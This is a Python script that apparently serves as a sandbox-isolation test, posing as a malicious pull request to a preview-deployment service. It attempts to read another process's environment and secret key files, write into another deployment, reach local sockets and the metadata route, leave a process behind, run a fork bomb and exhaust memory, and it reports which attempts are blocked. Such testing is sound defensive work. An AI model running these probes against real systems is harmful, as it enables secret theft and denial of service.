"""An attacker's pull request: `python3 attack.py install|build|start` tries every escape issue 10
names and prints one line per attempt, `ATTEMPT <stage> <name>: blocked (…)` or `… REACHED (…)`.

Where to look comes from the project's env vars, as an attacker who read previewd's README would
know it: WORKER_PID, DATA_DIR, PG_SOCKET, HOST_PORTS, OTHER_WORK, MARKER. `start` then serves HTTP
on $HOST:$PORT, so the preview goes live and can be closed.
"""

import http.server
import os
import socket
import subprocess
import sys
import time

STAGE = sys.argv[1]
MARKER = os.environ.get("MARKER", "attacker")


def report(name: str, reached: bool, detail: object) -> None:
    verdict = "REACHED" if reached else "blocked"
    print(f"ATTEMPT {STAGE} {name}: {verdict} ({str(detail)[:200]})", flush=True)


def try_read(name: str, path: str, must_contain: bytes = b"") -> None:
    try:
        with open(path, "rb") as handle:
            data = handle.read(65536)
    except OSError as error:
        report(name, False, f"{type(error).__name__}: {error.strerror}")
        return
    report(name, must_contain in data, f"read {len(data)} bytes")


def try_connect(name: str, family: socket.AddressFamily, address: str | tuple[str, int]) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        try:
            sock.connect(address)
        except OSError as error:
            report(name, False, f"{type(error).__name__}: {error}")
            return
        report(name, True, f"connected to {address}")


def worker_environ() -> None:
    # Reached only if it is the worker's own environment (a pid of the sandbox's own may match).
    try_read("worker-environ", f"/proc/{os.environ['WORKER_PID']}/environ", b"TEMPORAL_ADDRESS=")


def data_dir() -> None:
    for name in ("secret-keys", "webhook-secret", "session-key", "api-token"):
        try_read(f"data-dir-{name}", os.path.join(os.environ["DATA_DIR"], name))
    try:
        listed = os.listdir(os.environ["DATA_DIR"])
        report("data-dir-listing", True, listed)
    except OSError as error:
        report("data-dir-listing", False, f"{type(error).__name__}: {error.strerror}")


def other_deployment() -> None:
    path = os.environ.get("OTHER_WORK", "")
    if not path:
        return
    try_read("other-deployment-file", os.path.join(path, "server.py"))
    try:
        with open(os.path.join(path, "planted-by-attacker"), "w") as handle:
            handle.write("owned")
        report("other-deployment-write", True, path)
    except OSError as error:
        report("other-deployment-write", False, f"{type(error).__name__}: {error.strerror}")


def network() -> None:
    try_connect("postgres-socket", socket.AF_UNIX, os.environ["PG_SOCKET"])
    for port in os.environ["HOST_PORTS"].split(","):
        try_connect(f"tcp-127.0.0.1:{port}", socket.AF_INET, ("127.0.0.1", int(port)))
    # The metadata range is checked through the routes, never by sending it a packet.
    route = subprocess.run(["ip", "route", "get", "169.254.169.254"], capture_output=True, text=True)
    text = (route.stdout + route.stderr).strip()
    usable = route.returncode == 0 and not any(w in text for w in ("prohibit", "unreachable", "blackhole"))
    report("route-169.254.169.254", usable, text)


def leave_process_behind() -> None:
    # Detached, in a session of its own: it must not outlive the sandbox.
    code = "import time; time.sleep(3600)"
    subprocess.Popen(["setsid", "python3", "-c", code, f"{MARKER}-left-behind"], start_new_session=True)
    report("setsid-left-behind", False, "started; it must be gone once the sandbox is")


def fork_bomb() -> None:
    seconds = float(os.environ.get("BOMB_SECONDS", "6"))
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    print(f"FORKBOMB {STAGE} start", flush=True)
    process = subprocess.Popen(["python3", "-c", bomb, f"{MARKER}-bomb"], start_new_session=True)
    time.sleep(seconds)
    for _ in range(20):
        try:
            os.killpg(process.pid, 9)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    process.wait()
    # What it did to the host is measured outside: webhook answers while this ran.
    print(f"FORKBOMB {STAGE} end", flush=True)


def allocate() -> None:
    # 4 GiB, every page written, in a child so that its death is observed rather than suffered.
    code = (
        "chunks = []\nfor _ in range(64):\n    chunks.append(b'x' * (64 << 20))\nprint('allocated 4 GiB')\n"
    )
    result = subprocess.run(["python3", "-c", code], capture_output=True, text=True)
    report("allocate-4GiB", result.returncode == 0, f"exit {result.returncode}")


def main() -> None:
    print(f"attacker {STAGE} as uid {os.getuid()}", flush=True)
    worker_environ()
    data_dir()
    other_deployment()
    network()
    leave_process_behind()
    if STAGE in os.environ.get("BOMB_STAGES", "build").split(","):
        fork_bomb()
    allocate()
    print(f"attacker {STAGE} done", flush=True)
    if STAGE == "start":
        handler = http.server.SimpleHTTPRequestHandler
        http.server.ThreadingHTTPServer(
            (os.environ["HOST"], int(os.environ["PORT"])), handler
        ).serve_forever()


main()
